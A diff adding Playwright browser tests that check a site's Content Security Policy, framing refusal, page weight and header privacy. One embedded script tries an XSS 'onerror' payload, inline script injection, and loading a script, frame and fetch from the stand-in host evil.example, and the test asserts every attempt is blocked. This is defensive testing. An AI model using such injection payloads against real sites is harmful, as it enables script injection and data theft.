@@ -1,0 +1,91 @@
+"""What every page promises: nobody else's script, frame or address, and a small first view."""
+
+from typing import Any
+
+import pytest
+from playwright.async_api import expect
+
+from tests.browser.browsing import BUILT
+from tests.browser.conftest import Nine
+from web_edge.headers import CONTENT_SECURITY_POLICY
+from zkproto.v1 import ledger_pb2
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+FIRST_VIEW_OCTETS = 200_000
+PAGES = ("/", "/chain/", "/counter/")
+_TRIED = """async () => {
+  const got = [];
+  const attempt = async (name, act) => { try { await act(); got.push(name); } catch { /* as it should */ } };
+  const script = (made) => { document.head.append(Object.assign(document.createElement("script"), made)); };
+  await attempt("html", () => { document.body.innerHTML = '<img src=x onerror="window.owned=1">'; });
+  await attempt("inline", () => script({ textContent: "window.owned = 2" }));
+  await attempt("script", () => script({ src: "https://evil.example/x.js" }));
+  await attempt("fetch", () => fetch("https://evil.example/"));
+  await attempt("worker", () => new Worker("data:text/javascript,0"));
+  const beside = (name, given) => document.body.append(Object.assign(document.createElement(name), given));
+  beside("iframe", { src: "https://evil.example/" });
+  beside("img", { src: "https://evil.example/x.png" });
+  beside("style", { textContent: "body { display: none }" });
+  await new Promise((done) => setTimeout(done, 300));
+  return [got, window.owned ?? null, getComputedStyle(document.body).display];
+}"""
+
+
+@pytest.mark.parametrize("path", PAGES)
+async def test_no_script_of_anybody_else_runs(nine: Nine, path: str) -> None:
+    async with nine.site.visitor() as visitor:
+        visitor.expected = ["Content Security Policy", "Trusted", "evil.example", "404"]
+        page = await visitor.goes_to(path)
+        answer = await visitor.context.request.get(f"{nine.site.origin}{path}")
+        assert answer.headers["content-security-policy"] == CONTENT_SECURITY_POLICY
+        await expect(page.get_by_role("main")).to_be_visible()
+        assert await page.evaluate(_TRIED) == [[], None, "block"]
+        # A request that the policy has stopped is told of as one that failed: none was answered.
+        strange = [each for each in visitor.requests if "evil.example" in each.url]
+        assert [each.url for each in strange if not each.failure] == []
+        visitor.requests = [each for each in visitor.requests if each not in strange]
+
+
+@pytest.mark.parametrize("path", PAGES)
+async def test_no_page_is_shown_inside_another(nine: Nine, path: str) -> None:
+    async with nine.site.visitor() as visitor:
+        visitor.expected = ["frame-ancestors", "X-Frame-Options", "refused to connect", "Framing"]
+        page = visitor.page
+        await page.set_content(f"<iframe src='{nine.site.origin}{path}' name='inner'></iframe>")
+        inner = page.frame("inner")
+        assert inner is not None
+        await inner.wait_for_load_state()
+        assert await inner.locator("#page").count() == 0
+
+
+@pytest.mark.parametrize("path", PAGES)
+async def test_the_first_view_is_small(nine: Nine, path: str) -> None:
+    async with nine.site.visitor() as visitor:
+        visitor.expected = ["404"]  # there is no counter here
+        page, answers = visitor.page, list[Any]()
+        page.on("response", lambda answer: answers.append(answer))  # noqa: PLW0108 - playwright marks it
+        await page.goto(f"{nine.site.origin}{path}", wait_until="load")
+        await expect(page.get_by_role("main")).to_be_visible()
+        told = [await each.request.sizes() for each in list(answers) if "/rpc/" not in each.url]
+        octets = sum(each["responseBodySize"] + each["responseHeadersSize"] for each in told)
+        assert 10_000 < octets < FIRST_VIEW_OCTETS
+
+
+async def test_the_build_has_no_address_of_anybody_else() -> None:
+    for path in BUILT.rglob("*"):
+        if path.suffix in {".html", ".css", ".svg"}:
+            text = path.read_text("utf-8").replace("http://www.w3.org/", "")
+            assert "http://" not in text
+            assert "https://" not in text
+
+
+async def test_a_page_speaks_the_contract_and_shows_nothing_of_who_it_is(nine: Nine) -> None:
+    async with nine.site.visitor() as visitor:
+        page = await visitor.goes_to("/chain/")
+        await expect(page.get_by_text("each following the one before it")).to_be_visible()
+        asked = [each for each in visitor.requests if each.url.endswith("/ListEntries")]
+        body = asked[0].post_data_buffer
+        assert body is not None
+        assert ledger_pb2.ListEntriesRequest.FromString(body[5:]).page_size > 0
+        for each in visitor.requests:
+            assert not {"cookie", "authorization", "referer"} & set(await each.all_headers())
